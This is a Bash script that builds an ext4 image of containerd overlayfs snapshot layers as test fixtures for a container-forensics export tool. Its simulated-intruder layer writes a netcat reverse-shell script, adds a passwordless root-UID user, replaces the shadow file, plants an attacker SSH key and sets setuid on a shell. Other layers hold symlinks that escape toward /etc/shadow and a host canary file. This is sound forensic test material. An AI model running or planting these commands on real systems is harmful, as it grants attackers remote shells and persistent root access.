#!/usr/bin/env bash
# Builds an ext4 image holding containerd-style overlayfs snapshot
# directories whose whiteouts, opaque directories and copy-ups were made by
# the kernel: every layer above the first is the upperdir of a real overlay
# mount on which ordinary commands (rm, mv, mkdir, chmod, ln, setfattr, ...)
# were run. layers/oracle_test.go mounts the result read-only with the kernel
# and compares what the kernel shows with what ctrlift exports.
#
#   sudo testdata/images/overlay/make-layers.sh OUT.img
#
# Writes OUT.img (ext4, 256 MiB sparse) and OUT.img.index.tsv, one line per
# stack: name <TAB> layer dirs inside the image, top first, ':'-separated
# <TAB> extra options the kernel needs to mount the stack read-only.
#   main      snapshot 6, a container's writable layer, over image layers 5..1
#   lower     layers 5..1 alone (the image the container runs on)
#   evasion   snapshot 7 over 5..1: a container that set user.overlay.*
#             xattrs, which a root (trusted.*) overlay treats as plain xattrs
#   redirect  snapshot 8 over 5..1: directories renamed on a mount with
#             redirect_dir=on (trusted.overlay.redirect, relative and
#             absolute, nested, over a whited-out directory)
#   metacopy  snapshot 9 over 5..1: chown/chmod on a mount with metacopy=on
#             (upper inodes without data, trusted.overlay.metacopy), hard
#             links and renames of such files (redirects on files), a data
#             copy-up after a metadata one, a renamed directory
#   metacopy2 snapshot 12 over 9 5..1: metacopy over metacopy, over a
#             renamed metacopy file; a directory renamed twice
#   redirect-hidden  snapshot 8 over 13 over 5..1: 13 deletes what 8's
#             redirects point to (rm on a plain mount over 5..1)
#   metacopy-nodata  snapshot 9 over 13 over 5..1: 13 deletes the data of
#             some of 9's metacopy files (the kernel: EIO on their lookup)
#   xwhiteout snapshot 10 over 5..1: a layer with the kernel's (6.7+)
#             xattr whiteouts (trusted.overlay.whiteout in an opaque=x dir)
#   rootopaque snapshot 11 over 5..1: a layer whose root has
#             trusted.overlay.opaque=y, as an unpacker writes a top-level
#             ".wh..wh..opq"; the kernel ignores opaque on a layer's root
#   rootless  snapshot 21 over 20, made on a userxattr mount (rootless
#             containerd): markers are user.overlay.*
#   many      600 layers (snapshots 100..699); every 50th up to 450 made on
#             an overlay mount of all the ones below it
#
# Needs root, the kernel's overlay and loop support, and Debian's e2fsprogs,
# util-linux, coreutils, attr, acl, libcap2-bin, perl-base. Runs in a
# private mount namespace; an EXIT trap unmounts and detaches its loop
# device whatever happens.
#
# Environment:
#   CANARY=/abs/path   a host file that symlinks in the image point to (the
#                      test checks ctrlift never reads it); default
#                      /nonexistent/ctrlift-canary. CANARY's directory is
#                      also the target of symlinks placed where layer
#                      directories would be (escape/*).
#   MKFS_FEATURES=...  extra mke2fs -O features, e.g. "inline_data,ea_inode".
#   MKFS_BLOCKSIZE=N   block size (default 4096).
#
# Contents are fixed: mtimes are set per layer after its operations
# (layer N: 1700000000 + N days, with N in the nanoseconds); only ctimes,
# atimes and inode numbers vary between runs.
set -euo pipefail

die() { echo "make-layers: $*" >&2; exit 1; }
[ $# -eq 1 ] || die "usage: $0 OUT.img"
[ "$(id -u)" = 0 ] || die "needs root (loop and overlay mounts)"
grep -qw overlay /proc/filesystems || modprobe overlay 2>/dev/null || true
grep -qw overlay /proc/filesystems || die "kernel has no overlay filesystem"
for t in mkfs.ext4 e2fsck losetup setfattr setfacl setcap mknod perl unshare; do
	command -v $t >/dev/null || die "missing tool $t"
done

# Re-run in a private mount namespace, so no mount can leak to the host.
if [ -z "${MAKE_LAYERS_IN_NS:-}" ]; then
	exec env MAKE_LAYERS_IN_NS=1 unshare --mount --propagation private -- "$0" "$@"
fi

OUT=$(realpath -m "$1")
CANARY=${CANARY:-/nonexistent/ctrlift-canary}
case $CANARY in /*) ;; *) die "CANARY must be absolute" ;; esac
WORK=$(mktemp -d /tmp/make-layers.XXXXXX)
LOOP=
cleanup() {
	set +e
	cd /
	for m in "$WORK/ovl" "$WORK/img"; do
		mountpoint -q "$m" && umount "$m"
	done
	[ -n "$LOOP" ] && losetup -d "$LOOP"
	rm -rf "$WORK"
}
trap cleanup EXIT
mkdir "$WORK/img" "$WORK/ovl"

rm -f "$OUT" "$OUT.index.tsv"
truncate -s 256M "$OUT"
export E2FSPROGS_FAKE_TIME=1700000000
uuid=0c7e1a7e-0000-4000-8000-00000000aaaa
mkfs.ext4 -q -F -b "${MKFS_BLOCKSIZE:-4096}" -I 256 -L layers -U $uuid -E hash_seed=$uuid \
	${MKFS_FEATURES:+-O "$MKFS_FEATURES"} "$OUT"
unset E2FSPROGS_FAKE_TIME
LOOP=$(losetup --find --show "$OUT")
mount -t ext4 "$LOOP" "$WORK/img"

SN=var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots
S="$WORK/img/$SN"
OV="$WORK/ovl"
mkdir -p "$S"

# settime ID DIR: give every entry of a finished layer the layer's mtime.
settime() {
	find "$2" -exec touch -h -d "@$((1700000000 + $1 * 86400)).$(printf %09d "$1")" {} +
}

# up ID LOWER...: mount an overlay with snapshot ID as upperdir over the
# given snapshots (nearest first), as containerd's overlayfs snapshotter
# does, and cd into it. UPOPTS replaces the redirect_dir/metacopy options.
# Paths are relative to the snapshots dir so that even 450 lower layers fit
# in the one page of mount options mount(2) takes.
up() {
	local id=$1 lower
	shift
	lower=$(printf '%s/fs:' "$@")
	mkdir -p "$S/$id/fs" "$S/$id/work"
	(cd "$S" && mount -t overlay overlay \
		-o "lowerdir=${lower%:},upperdir=$id/fs,workdir=$id/work,index=off,${UPOPTS:-redirect_dir=off,metacopy=off}" "$OV")
	cd "$OV"
}
down() { # down ID
	cd /
	umount "$OV"
	settime "$1" "$S/$1/fs"
}

mksock() { perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Type => SOCK_STREAM(), Local => $ARGV[0]) or die "$ARGV[0]: $!"' "$1"; }

# ---------------------------------------------------------------- layer 1
# A base image layer, unpacked as a plain directory (no overlay yet).
mkdir -p "$S/1/fs" "$S/1/work"
cd "$S/1/fs"
mkdir -p etc bin usr/bin usr/share/doc/pkg1 usr/share/doc/pkg2 usr/share/keep tmp root var/log
printf 'root:x:0:0:image root:/root:/bin/sh\n' >etc/passwd
printf 'root:*:19000:0:99999:7:::image-shadow\n' >etc/shadow
chmod 0640 etc/shadow
chown 0:42 etc/shadow
printf 'image-host\n' >etc/hostname
printf '#!/bin/sh\necho image sh\n' >bin/sh
chmod 0755 bin/sh
printf 'su binary\n' >bin/su
chmod 4755 bin/su
printf 'wall binary\n' >usr/bin/wall
chown 0:5 usr/bin/wall
chmod 2755 usr/bin/wall
chmod 1777 tmp
chmod 0700 root
for p in pkg1 pkg2; do printf '%s readme\n' $p >usr/share/doc/$p/README; printf 'copyright %s\n' $p >usr/share/doc/$p/copyright; done
for i in 1 2 3; do printf 'keep %d\n' $i >usr/share/keep/k$i; done
printf 'log line\n' >var/log/messages

# A big directory: an htree on disk.
mkdir big
for i in {0000..2999}; do printf '%s\n' "$i" >"big/f$i"; done

# Symlinks of every kind, escaping ones included.
mkdir links
ln -s /etc/shadow links/abs-shadow
ln -s /etc/passwd links/abs-passwd
ln -s ../../../../etc/passwd links/up-passwd
ln -s ../../../../../../../../../../../../.. links/up-root
ln -s / links/root
ln -s "$CANARY" links/canary-abs
ln -s "$(printf '../%.0s' {1..40})${CANARY#/}" links/canary-rel
ln -s "$(dirname "$CANARY")" links/canary-dir
ln -s ../etc/hostname links/rel
ln -s does/not/exist links/dangling
ln -s ../usr/share links/dir-link
ln -s dir-link/doc links/chain
ln -s "$(printf 'x%.0s' {1..100})" links/slow
# A long target: 4093 bytes, or nearly a block on small-block filesystems
# (a target must fit in one block).
bs=$(stat -f -c %S .)
if ((bs >= 4096)); then
	ln -s "$(printf 'abcdefghi/%.0s' {1..409})end" links/max
else
	ln -s "$(printf 'abcdefghi/%.0s' $(seq $((bs / 10 - 1))))end" links/max
fi
ln -s "$(printf '\xff\xfe/\x80')" links/nonutf8
ln -s ' spaced target ' links/spaced
ln -s /etc/passwd etc/alt-passwd

# Hardlinks.
mkdir -p hard/sub
printf 'hard a\n' >hard/a
ln hard/a hard/b
ln hard/a hard/sub/c
printf 'hard x\n' >hard/x
ln hard/x hard/y
printf 'hard p\n' >hard/p
ln hard/p hard/q

# Special files.
mkdir dev
mknod dev/null c 1 3
mknod dev/loop0 b 7 0
mknod dev/big-dev b 259 1048575
mkfifo dev/fifo
mksock dev/sock

# Extended attributes and ACLs.
mkdir -p xattr/dacl
printf 'user\n' >xattr/user
setfattr -n user.comment -v hello xattr/user
setfattr -n user.bin -v 0x00ff00fe xattr/user
setfattr -n user.empty xattr/user
printf 'user2\n' >xattr/user2
setfattr -n user.comment -v removed-later xattr/user2
setfattr -n user.keep -v kept xattr/user2
printf 'big xattr\n' >xattr/big
setfattr -n user.big -v "$(printf 'v%.0s' {1..3000})" xattr/big
printf 'many\n' >xattr/many
{
	printf '# file: xattr/many\n'
	for i in {01..30}; do printf 'user.attr%s="value %s"\n' $i $i; done
} | setfattr --restore=-
printf 'trusted\n' >xattr/trusted
setfattr -n trusted.ctrlift -v secret xattr/trusted
printf 'cap\n' >xattr/cap
chmod 0755 xattr/cap
setcap cap_net_raw,cap_net_bind_service+ep xattr/cap
printf 'acl\n' >xattr/acl
setfacl -m u:1000:rwx,g:100:r-x,m::rwx xattr/acl
setfacl -d -m u:1000:r-x,g::r-x,o::- xattr/dacl
setfacl -m u:33:rwx xattr/dacl
setfattr -n user.dirattr -v on-dir xattr
ln -s xattr/user xattr-link
setfattr -h -n trusted.onlink -v link xattr-link

# Sparse and fragmented files.
mkdir sparse
truncate -s 24M sparse/hole
printf 'middle' | dd of=sparse/hole bs=1 seek=$((12 << 20)) conv=notrunc status=none
printf 'end' | dd of=sparse/hole bs=1 seek=$(((24 << 20) - 3)) conv=notrunc status=none
: >sparse/empty
head -c 4096 /dev/zero | tr '\0' 'z' >sparse/exact-block
truncate -s 4M sparse/all-hole
# 600 one-block extents: more than the inode holds, so an extent tree.
perl -e 'open(my $f, "+>", $ARGV[0]) or die; for my $i (0..599) { seek($f, $i * 8192, 0); print $f sprintf("block %04d", $i) x 400; } close $f' sparse/fragmented
# Non-trivial content, several MiB.
perl -e 'my $s = 0; for my $i (0..(5 << 20) / 16 - 1) { printf "%015d\n", ($s = ($s * 1103515245 + 12345) % 2147483648) }' >sparse/big

# Names.
mkdir names
printf 'utf8\n' >"names/héllo wörld ✓"
printf 'cjk\n' >names/日本語のファイル
printf 'nl\n' >"names/new
line"
printf 'bs\n' >'names/back\slash'
printf 'raw\n' >"names/$(printf 'raw\xff\xfe\x80')"
printf 'dash\n' >names/-dash
printf 'space\n' >'names/ lead space'
printf 'hidden\n' >names/.hidden
printf 'dots\n' >names/...
printf 'long\n' >"names/$(printf 'n%.0s' {1..255})"
d=names/deep
d50=$(printf 'd%.0s' {1..50})
for i in {01..40}; do d="$d/level$i-$d50"; done
mkdir -p "$d"
printf 'deep\n' >"$d/bottom"

# Owners and modes.
mkdir -p perm/sgid-dir perm/sticky
printf 'zero\n' >perm/mode0000
chmod 0000 perm/mode0000
printf 'big ids\n' >perm/bigid
chown 4000000000:4000000001 perm/bigid
printf 'nobody\n' >perm/nobody
chown 65534:65534 perm/nobody
chmod 2775 perm/sgid-dir
chmod 1777 perm/sticky
printf 'chmod\n' >perm/chmod-me
printf 'chown\n' >perm/chown-me
chmod 6755 perm/chmod-me

# Directories for later layers to work on.
mkdir -p opaque-me/sub multi rename/dir/inner d2f f2d-parent victim
printf 'o1\n' >opaque-me/one
printf 'o2\n' >opaque-me/sub/two
printf 'm1\n' >multi/from-l1
printf 'old\n' >rename/old
printf 'inner\n' >rename/dir/inner/file
printf 'was dir\n' >d2f/content
printf 'was file\n' >f2d
printf 'victim\n' >victim/v
mkdir -p ren/a/b/c ren/gone ren/src ren/into/sub
printf 'deep\n' >ren/a/b/c/file
printf 'b\n' >ren/a/b/bfile
printf 'top\n' >ren/a/topfile
printf 'old\n' >ren/gone/old
printf 'src\n' >ren/src/s
printf 'into\n' >ren/into/sub/i
printf 'meta\n' >ren/meta-file

settime 1 "$S/1/fs"
# Times a layer can carry besides its own.
touch -h -d '1960-01-01 00:00:00.5 UTC' perm/nobody
touch -h -d '2200-02-03 04:05:06.123456789 UTC' perm/bigid
touch -h -d '@0' perm/mode0000
touch -h -d '@1700000000.999999999' links/abs-shadow
cd /

# ---------------------------------------------------------------- layer 2
up 2 1
rm -r usr/share/doc/pkg1            # directory whiteout
rm hard/x                           # one name of a hardlinked pair
printf 'layer2 host\n' >>etc/hostname # copy-up
rm -rf opaque-me && mkdir opaque-me && printf 'new\n' >opaque-me/new # opaque dir
mv rename/old rename/new            # rename = copy-up + whiteout
mv rename/dir rename/dir-moved      # lower dir rename: EXDEV, mv copies
rm -r d2f && printf 'now a file\n' >d2f # dir replaced by a file
rm f2d && mkdir f2d && printf 'inside\n' >f2d/inside # file replaced by a dir (opaque)
chmod 0600 perm/chmod-me
chown 1234:5678 perm/chown-me
setfattr -n user.new -v added-in-2 xattr/user
setfattr -x user.comment xattr/user2
ln hard/a hard/a-upper              # copy-up of a, link in the upper
rm big/f{0001..0100}
for i in {01..50}; do printf 'new %s\n' $i >big/new$i; done
printf 'l2\n' >multi/from-l2
printf 'layer 2\n' >layer2-only
down 2

# ---------------------------------------------------------------- layer 3
up 3 2 1
mkdir usr/share/doc/pkg1 && printf 'pkg1 again\n' >usr/share/doc/pkg1/README # over a whiteout
rm etc/hostname                     # deleted from two layers below
printf 'l3\n' >opaque-me/from-l3
rm -r multi                         # dir with contents from layers 1 and 2
chmod 0750 perm                     # directory copy-up, metadata only
setfacl -m u:2000:r-- xattr/acl
rm victim/v
printf 'layer 3\n' >layer3-only
down 3

# ---------------------------------------------------------------- layer 4
up 4 3 2 1
mkdir etc/hostname && printf 'x\n' >etc/hostname/file # file deleted in 3, now a dir
rm d2f && ln -s ../layer2-only d2f  # file (layer 2) replaced by a symlink
rm links/rel && ln -s ../etc/passwd links/rel
setcap cap_sys_admin+ep xattr/cap   # capability changed
printf 'layer 4\n' >layer4-only
rm layer3-only
rmdir victim
down 4

# ---------------------------------------------------------------- layer 5
up 5 4 3 2 1
printf 'l5\n' >big/f2999
rm big/f2998
mkfifo dev/fifo5
mkdir victim && printf 'back\n' >victim/v2 # dir over a dir whiteout
printf 'layer 5\n' >layer5-only
down 5

# ---------------------------------------------------------------- layer 6
# The container's writable layer: what an intruder did.
up 6 5 4 3 2 1
printf 'evil::0:0::/root:/bin/sh\n' >>etc/passwd
rm etc/shadow && printf 'root:pwned:1::::::\n' >etc/shadow
ln -s /etc/shadow tmp/.s
ln -s "$CANARY" tmp/.canary
ln -s ../../../../../../etc/shadow tmp/.up
printf '#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n' >tmp/evil.sh
chmod 0755 tmp/evil.sh
ln tmp/evil.sh tmp/.evil-hardlink
mkdir -p root/.ssh && printf 'ssh-ed25519 AAAA attacker\n' >root/.ssh/authorized_keys
chmod 4755 bin/sh                   # setuid on a copied-up file
chown 1000:1000 usr/bin/wall        # drops setgid, as chown does
rm -rf usr/share/doc && mkdir usr/share/doc && printf 'wiped\n' >usr/share/doc/NOTE
rm hard/b                           # hard/a (copied up), hard/sub/c remain
ln hard/p hard/p2
rm hard/q
rm -r big/f1*                       # 1000 deletions in the htree dir
printf 'added\n' >big/zz-added
setfattr -n user.intruder -v yes xattr/many
setfattr -x user.attr15 xattr/many
setfacl -b xattr/acl                # remove the ACL (copy-up)
mknod dev/evil c 1 1
mksock dev/sock6
printf 'after' | dd of=sparse/hole bs=1 seek=$((20 << 20)) conv=notrunc status=none # copy-up of a sparse file
mv layer5-only moved-from-5
printf 'upper\n' >layer4-only
printf 'container\n' >container-only
down 6

# ---------------------------------------------------------------- layers 7-11
# Other containers on the same image, each showing one overlay feature.
up 7 5 4 3 2 1 # user.overlay.* set from inside a container: plain xattrs here
setfattr -n user.overlay.opaque -v y usr/share/keep
setfattr -n user.overlay.foo -v bar var/log/messages
mkdir newdir && setfattr -n user.overlay.opaque -v y newdir && printf 'n\n' >newdir/file
down 7
UPOPTS=redirect_dir=on up 8 5 4 3 2 1
mv usr/share/keep usr/share/kept    # trusted.overlay.redirect=keep
mv rename/dir-moved renamed-again   # a renamed copy of a lower dir
ln usr/share/kept/k2 usr/share/kept/k2-link # a hard link in a renamed dir
mv ren/a ren/a2                     # relative redirect
mv ren/a2/b ren/a2/b2               # nested: a renamed dir in a renamed dir
mv ren/a2/b2/c ren/c-out            # absolute redirect, through both
printf 'added\n' >ren/a2/b2/new     # an entry added in a renamed dir
rm ren/a2/topfile                   # and one deleted
rm -r ren/gone && mv ren/src ren/gone # a dir renamed over a whited-out one
mkdir ren/newparent && mv ren/into ren/newparent/into # into a new dir
down 8
UPOPTS=metacopy=on,redirect_dir=on up 9 5 4 3 2 1
chown 1000:1000 sparse/big          # metadata-only copy-up
chmod 0600 sparse/fragmented
chown 0:1000 sparse/hole            # a sparse one
ln sparse/big sparse/big-link       # a hard link: an absolute redirect
chmod 0600 hard/p                   # a lower hard link (hard/q stays below)
mv layer4-only layer4-moved         # a moved metacopy file: relative redirect
mv layer2-only ren/layer2-moved     # absolute redirect
chmod 0640 ren/meta-file
printf 'more\n' >>ren/meta-file     # data copy-up after the metadata one
mv ren/into ren/into-meta           # a renamed directory
chown 7:7 ren/into-meta/sub/i       # a metacopy file in it
down 9
UPOPTS=metacopy=on,redirect_dir=on up 12 9 5 4 3 2 1
chmod 0644 sparse/big               # metacopy over metacopy
chown 4:4 layer4-moved              # over a renamed metacopy file
mv ren/layer2-moved layer2-again    # a moved file moved again
mv ren/into-meta into-twice         # a renamed directory renamed again
chmod 0700 into-twice/sub           # a directory copy-up in it
down 12
up 13 5 4 3 2 1                     # deletes what 8 and 9 point to
rm -r usr/share/keep ren/a ren/into
rm sparse/big layer4-only
down 13
mkdir -p "$S/10/fs/usr/share/keep" "$S/10/work"
: >"$S/10/fs/usr/share/keep/k2"
setfattr -n trusted.overlay.whiteout -v y "$S/10/fs/usr/share/keep/k2"
setfattr -n trusted.overlay.opaque -v x "$S/10/fs/usr/share/keep"
printf 'x\n' >"$S/10/fs/usr/share/keep/k4"
settime 10 "$S/10/fs"
mkdir -p "$S/11/fs" "$S/11/work"
printf 'root opaque\n' >"$S/11/fs/rootopaque-file"
setfattr -n trusted.overlay.opaque -v y "$S/11/fs"
settime 11 "$S/11/fs"

# ---------------------------------------------------------------- layers 20-21
# A rootless (userxattr) pair: the kernel writes user.overlay.* markers.
mkdir -p "$S/20/fs/dir/sub" "$S/20/fs/keep" "$S/20/work"
printf 'a\n' >"$S/20/fs/dir/a"
printf 'b\n' >"$S/20/fs/dir/sub/b"
printf 'gone\n' >"$S/20/fs/keep/gone"
printf 'stay\n' >"$S/20/fs/keep/stay"
printf 'file\n' >"$S/20/fs/file"
settime 20 "$S/20/fs"
UPOPTS=userxattr up 21 20
rm -r dir && mkdir dir && printf 'new\n' >dir/new # user.overlay.opaque
rm keep/gone
setfattr -n user.note -v copied file
mv file renamed
down 21

# ---------------------------------------------------------------- many
# 600 layers, more than the 500 the kernel takes in one mount. Every 50th up
# to 450 is made by the kernel on an overlay mount of all the ones below it
# (rm -r d && mkdir d: an opaque dir); the others are
# written directly in the format the kernel reads (a whiteout is a char
# device 0:0, an opaque dir has trusted.overlay.opaque=y), which is how a
# layer unpacker writes them, and is much faster than 600 mounts.
first=100
last=699
mk=() wh=()
for ((id = first; id <= last; id++)); do
	n=$((id - first))
	((n % 50 == 0 && n > 0 && n <= 450)) || mk+=("$S/$id/fs/d")
	mk+=("$S/$id/work")
	((n == 210)) && mk+=("$S/$id/fs/deep/a/b")
	((n == 240)) && mk+=("$S/$id/fs/deep")
done
mkdir -p "${mk[@]}"
for ((id = first; id <= last; id++)); do
	n=$((id - first))
	if ((n % 50 == 0 && n > 0 && n <= 450)); then
		lower=()
		for ((l = id - 1; l >= first; l--)); do lower+=($l); done
		up $id "${lower[@]}"
		rm -r d && mkdir d && printf '%d\n' $n >d/x$id
		printf '%d\n' $n >common
		printf '%d\n' $n >f$id
		rm f$((id - 5))
		cd /
		umount "$OV"
		continue
	fi
	f="$S/$id/fs"
	printf '%d\n' $n >"$f/common"
	printf '%d\n' $n >"$f/f$id"
	printf '%d\n' $n >"$f/d/y$id"
	((n % 10 == 0 && n > 0)) && wh+=("$f/f$((id - 5))")
	((n % 7 == 0 && n > 0)) && wh+=("$f/d/y$((id - 3))")
	((n == 210)) && printf 'deep\n' >"$f/deep/a/b/c"
	((n == 240)) && wh+=("$f/deep/a")
	# A dir that is not opaque over a file over a dir: the file ends it.
	((n == 311)) && mkdir "$f/flip" && printf 'hidden\n' >"$f/flip/hidden"
	((n == 312)) && printf 'file\n' >"$f/flip"
	((n == 313)) && mkdir "$f/flip" && printf 'a\n' >"$f/flip/a"
	# Whiteouts that hide nothing: in the bottom and the top layer.
	((n == 0 || id == last)) && wh+=("$f/ghost")
done
for w in "${wh[@]}"; do mknod "$w" c 0 0; done
for n in 125 500 550; do setfattr -n trusted.overlay.opaque -v y "$S/$((first + n))/fs/d"; done # hand-made opaque dirs
fsdirs=()
for ((id = first; id <= last; id++)); do fsdirs+=("$S/$id/fs"); done
find "${fsdirs[@]}" -exec touch -h -d @1700600000.000000007 {} +

# ---------------------------------------------------------------- escapes
# Symlinks where layer directories would be: a merge must refuse them.
mkdir -p "$WORK/img/escape"
ln -s "$(dirname "$CANARY")" "$WORK/img/escape/fs"
ln -s "$(dirname "$CANARY")" "$WORK/img/escape/parent"

cd /
umount "$WORK/img"
losetup -d "$LOOP"
LOOP=
fsck=$(e2fsck -fn "$OUT" 2>&1) || { echo "$fsck" >&2; die "e2fsck found problems in $OUT"; }

# stack NAME OPTIONS ID...: one index line, layer dirs top first.
stack() {
	local name=$1 opts=$2
	shift 2
	printf '%s\t%s\t%s\n' "$name" "$(printf "$SN/%s/fs:" "$@" | sed 's/:$//')" "$opts"
}
{
	stack main '' 6 5 4 3 2 1
	stack lower '' 5 4 3 2 1
	stack evasion '' 7 5 4 3 2 1
	stack redirect redirect_dir=follow 8 5 4 3 2 1
	stack metacopy metacopy=on 9 5 4 3 2 1
	stack metacopy2 metacopy=on 12 9 5 4 3 2 1
	stack redirect-hidden redirect_dir=follow 8 13 5 4 3 2 1
	stack metacopy-nodata metacopy=on 9 13 5 4 3 2 1
	stack xwhiteout '' 10 5 4 3 2 1
	stack rootopaque '' 11 5 4 3 2 1
	stack rootless userxattr 21 20
	stack many '' $(seq $last -1 $first)
} >"$OUT.index.tsv"
